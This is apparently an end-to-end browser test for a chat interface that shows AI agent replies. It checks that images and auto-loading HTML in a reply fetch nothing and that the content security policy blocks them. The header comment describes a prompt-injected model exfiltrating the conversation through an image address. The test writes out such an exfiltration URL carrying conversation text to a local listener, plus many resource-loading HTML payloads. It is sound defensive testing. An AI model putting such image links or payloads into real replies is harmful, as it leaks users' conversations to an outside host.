import http from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser, newPage, shot } from "./support/browser.js";
import { script, startE2eDaemon, type E2eDaemon } from "./support/daemon.js";
import { ui } from "./support/ui.js";

/**
 * Finding 4 (issue 11): a reply that names an image on another host must not make the page
 * fetch it — a prompt-injected model could put the conversation into the address. The
 * target here is a real listener on another 127.0.0.1 port that counts every hit.
 */
let d: E2eDaemon;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let target: http.Server;
let base: string;
const hits: { url: string; referer: string | undefined }[] = [];
const requests: string[] = [];

beforeAll(async () => {
  target = http.createServer((req, res) => {
    hits.push({ url: req.url ?? "", referer: req.headers.referer });
    res.writeHead(200, { "content-type": "text/plain" }).end("seen");
  });
  await new Promise<void>((resolve) => target.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
  [d, browser] = await Promise.all([startE2eDaemon(), launchBrowser()]);
  ({ context, page } = await newPage(browser));
  // Every request any page of this context makes, at the network level.
  context.on("request", (req) => requests.push(req.url()));
  // CSP violations, recorded before any page script runs.
  await context.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) => seen.push({ directive: e.violatedDirective, blocked: e.blockedURI }));
  });
  await page.goto(d.openUrl);
});
afterEach(async (ctx) => {
  if (ctx.task.result?.state === "fail") await shot(page, `failed-${ctx.task.name.replace(/\W+/g, "-")}`);
});
afterAll(async () => {
  await browser?.close();
  await d?.stop();
  await new Promise((resolve) => target?.close(resolve));
});

const toTarget = () => requests.filter((u) => u.startsWith(base));
const violations = () => page.evaluate(() => (window as unknown as { cspViolations: { directive: string; blocked: string }[] }).cspViolations);

describe("images in replies", () => {
  test("an exfiltration image and raw HTML that loads by itself fetch nothing; the image is shown as a link", async () => {
    const exfil = `${base}/p.png?d=${encodeURIComponent("the owner's conversation text")}`;
    const reply = [
      `Here is the chart: ![sales chart](${exfil})`,
      "",
      `And an unnamed one: ![](${base}/unnamed.png)`,
      "",
      `<img src="${base}/raw-img.png" alt="raw image"> <img srcset="${base}/srcset.png 1x">`,
      "",
      `<video poster="${base}/poster.png" src="${base}/video.mp4"></video><audio src="${base}/audio.mp3"></audio>`,
      "",
      `<picture><source srcset="${base}/source.png"><img src="${base}/picture.png" alt="pic"></picture>`,
      "",
      `<table background="${base}/table-bg.png"><tr><td style="background-image:url(${base}/style-bg.png)">cell</td></tr></table>`,
      "",
      `<style>@import url(${base}/import.css); p { background: url(${base}/css-bg.png) }</style><link rel="stylesheet" href="${base}/link.css">`,
      "",
      `<svg><image href="${base}/svg-image.png"></image></svg><input type="image" src="${base}/input.png">`,
      "",
      `<iframe src="${base}/frame.html"></iframe><object data="${base}/object.bin"></object><embed src="${base}/embed.bin">`,
      "",
      "The end.",
    ].join("\n");
    await page.getByRole("combobox", { name: "Agent" }).selectOption("scripted");
    const { composer, lastReply } = ui(page);
    await composer.fill(script({ text: reply }));
    await composer.press("Enter");
    await lastReply().getByText("The end.").waitFor();
    await lastReply().getByText(/scripted-1 ·/).waitFor(); // the turn is done: the reply is settled

    const link = lastReply().getByRole("link", { name: /sales chart/ });
    expect(await link.getAttribute("href")).toBe(exfil);
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await lastReply().getByRole("link", { name: new RegExp(`${base}/unnamed.png`.replace(/[.?/]/g, "\\$&")) }).count()).toBe(1);
    expect(await lastReply().getByRole("link", { name: /raw image/ }).count()).toBe(1);
    expect(await lastReply().locator("img, video, audio, source, iframe, object, embed, style, link, image, input").count()).toBe(0);
    await shot(page, "11-remote-image-as-link");

    // Reload: the settled reply is rendered again from history, still without a fetch.
    await page.reload();
    await lastReply().getByText("The end.").waitFor();
    await lastReply().getByRole("link", { name: /sales chart/ }).waitFor();

    expect(toTarget()).toEqual([]);
    expect(hits).toEqual([]);
    // The sanitizer did the work: the CSP backstop never had to refuse a fetch. (Chromium does
    // report the reply's inline style as the sanitizer parses it, in an inert document.)
    const seen = await violations();
    expect(seen.filter((v) => v.blocked !== "inline")).toEqual([]);
    expect(seen.every((v) => v.directive.startsWith("style-src"))).toBe(true);
  });

  test("the CSP is the backstop: an image that reaches the page anyway is refused", async () => {
    await page.evaluate((src) => {
      const img = document.createElement("img");
      img.src = src;
      document.body.append(img);
    }, `${base}/backstop.png`);
    await page.waitForFunction(() =>
      (window as unknown as { cspViolations: { blocked: string }[] }).cspViolations.some((v) => v.blocked.includes("backstop")),
    );
    expect((await violations()).filter((v) => v.blocked !== "inline")).toEqual([{ directive: "img-src", blocked: `${base}/backstop.png` }]);
    expect(hits).toEqual([]);
  });

  test("the owner's click opens the image in a new tab, sending no Referer", async () => {
    // A positive control too: it proves the listener above is reachable from this browser.
    const [tab] = await Promise.all([context.waitForEvent("page"), ui(page).lastReply().getByRole("link", { name: /sales chart/ }).click()]);
    await tab.waitForLoadState();
    expect(hits.length).toBeGreaterThan(0); // the image, and the new tab's own favicon request
    const image = hits.filter((h) => h.url.startsWith("/p.png?d="));
    expect(image).toHaveLength(1);
    expect(image[0]!.referer).toBeUndefined();
    await tab.close();
  });
});
